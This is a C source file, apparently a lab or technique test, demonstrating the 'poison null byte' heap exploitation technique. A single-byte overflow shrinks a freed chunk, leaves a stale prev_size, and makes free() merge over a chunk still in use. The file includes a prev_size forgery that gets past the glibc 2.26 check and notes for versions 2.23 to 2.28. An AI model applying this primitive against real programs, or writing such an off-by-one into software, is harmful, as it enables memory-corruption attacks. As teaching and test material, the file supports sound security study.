/*
 * poison_null_byte.c - a null byte shrinks a free chunk, the chunk after it
 * keeps a stale prev_size, and its free merges over a live chunk.
 *
 * b is free, and c's prev_size says so (0x510).  A null byte off the end of
 * a, the chunk before b, clears the low byte of b's size: 0x511 becomes
 * 0x500.  When b is now split for new requests, malloc writes the "next
 * chunk's prev_size" 0x500 bytes after b, 0x10 short of c, whose prev_size
 * stays 0x510.  b1 and b2 are carved from b; b1 is freed; then free(c)
 * follows its stale prev_size back to b1's start and merges c with b1 and
 * with b2, which is in use.  The merged chunk is returned by the next malloc
 * of its size and overlaps b2.
 *
 * One forgery for 2.26: unlink then checks that a chunk's size matches the
 * prev_size after it ("corrupted size vs. prev_size"), and b is unlinked with
 * its shrunk size, so the program writes 0x500 where the shrunk b ends.  It
 * costs nothing on older releases.
 *
 * Works on 2.23 ... 2.28.  2.29 checks each unsorted chunk against the chunk
 * after it before using it; after the shrunk b lies the middle of b's old
 * data, whose "size" is zero: "malloc(): invalid next size (unsorted)".
 * (Forging that too only moves the stop to free(c), where 2.29 compares the
 * size of the chunk reached backwards with prev_size.)  Chunks above the
 * tcache's largest keep the tcache out of the story.
 */
#include "tests/techniques/technique.h"

int main(void)
{
    technique_begin("poison_null_byte", "A null byte shrinks free b; chunks carved from b leave c's prev_size "
                                        "stale; free(c) merges back over a chunk in use.");

    char *a = arenalloc_malloc(0x428);
    char *b = arenalloc_malloc(0x500);
    char *c = arenalloc_malloc(0x4f8);
    char *guard = arenalloc_malloc(0x18);
    say("a = %p (0x430 chunk), b = %p (0x510), c = %p (0x500), a guard %p.", (void *)a, (void *)b, (void *)c,
        (void *)guard);

    *(size_t *)(b + 0x4f0) = 0x500;
    say("In b's data, where a 0x500-byte b would end, a prev_size of 0x500: for 2.26's unlink check.");

    arenalloc_free(b);
    say("free(b): to the unsorted bin; c's prev_size = %#zx, c's PREV_INUSE cleared.", chunk_header(c)[0]);

    /* LAB(tech-poison_null_byte) BEGIN */
    a[0x428] = '\0';
    /* LAB(tech-poison_null_byte) END */
    say("One null byte past a's data: b's size is now %#zx.", *size_field(b));

    char *b1 = arenalloc_malloc(0x418);
    char *b2 = arenalloc_malloc(0xd8);
    say("b1 = malloc(0x418) = %p and b2 = malloc(0xd8) = %p, both carved from b.", (void *)b1, (void *)b2);
    say("c's prev_size is still %#zx: the split wrote its prev_size 0x10 bytes too early.", chunk_header(c)[0]);

    arenalloc_free(b1);
    say("free(b1): to the unsorted bin.");
    arenalloc_free(c);
    say("free(c): prev_size %#zx leads back to b1; free merges c with b1, swallowing b2, which lies between them.",
        chunk_header(c)[0]);

    char *d = arenalloc_malloc(0xa08);
    say("d = malloc(0xa08) = %p.", (void *)d);

    bool overlaps_b2 = b2 > d && b2 < d + 0xa08;
    return technique_end(d == b1 && overlaps_b2, "malloc returned a chunk that overlaps b2, still in use");
}
